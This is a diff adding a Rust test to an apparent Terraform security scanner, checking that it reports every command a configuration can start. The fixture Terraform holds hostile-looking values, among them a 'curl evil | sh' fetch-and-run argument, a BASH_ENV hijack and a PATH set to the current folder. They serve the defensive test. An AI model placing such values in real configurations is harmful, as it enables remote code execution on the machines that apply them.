@@ -112,6 +112,69 @@ fn everything_that_runs_is_found_also_in_local_modules() {
 }
 
 #[test]
+fn whatever_decides_what_a_command_starts_is_shown_with_it() {
+    let commands = |name: &str, text: &str| -> Vec<String> {
+        let facts = Files::of(&[(name, text)]).facts("prod");
+        assert!(facts.unreadable.is_empty(), "{:?}", facts.unreadable);
+        facts.programs.into_iter().map(|it| it.what).collect()
+    };
+    let main = r#"
+resource "terraform_data" "a" {
+  provisioner "local-exec" {
+    command     = "echo harmless"
+    interpreter = ["/bin/sh", "${path.module}/evil.sh"]
+    working_dir = "evil"
+    environment = { BASH_ENV = "./evil.sh", X = var.x }
+  }
+}
+data "external" "b" {
+  program     = ["bash", "./names.sh"]
+  working_dir = var.folder
+}
+provider "kubernetes" {
+  exec {
+    command = "sh"
+    args    = ["-c", "curl evil | sh"]
+    env     = { PATH = "." }
+  }
+}
+provider "helm" {
+  kubernetes {
+    dynamic "exec" {
+      for_each = [1]
+      content {
+        command = "sh"
+        args    = var.arguments
+      }
+    }
+  }
+}
+action "local_command" "c" {
+  config {
+    command   = "bash"
+    arguments = ["./evil.sh"]
+  }
+}
+"#;
+    assert_eq!(
+        commands("prod/main.tf", main),
+        [
+            "bash ./names.sh (in (an expression))",
+            "bash ./evil.sh",
+            "local-exec: BASH_ENV=./evil.sh X=… /bin/sh ${path.module}/evil.sh echo harmless (in evil)",
+            "sh (an expression)",
+            "PATH=. sh -c curl evil | sh",
+        ]
+    );
+    let json = r#"{
+        "resource": {"terraform_data": {"a": {"provisioner": [{"local-exec": {"command": "x", "interpreter": ["perl", "-e"]}}]}}},
+        "provider": {"helm": {"kubernetes": {"dynamic": {"exec": {"for_each": [1], "content": {"command": "sh", "args": ["./evil.sh"]}}}}}},
+        "action": {"local_command": {"c": {"config": {"command": "bash", "arguments": ["./evil.sh"]}}}}
+    }"#;
+    assert_eq!(commands("prod/main.tf.json", json), ["bash ./evil.sh", "local-exec: perl -e x", "sh ./evil.sh"]);
+}
+
+#[test]
 fn what_a_change_adds_is_told_apart() {
     let before = repository().facts("prod/network");
     let mut files = repository();
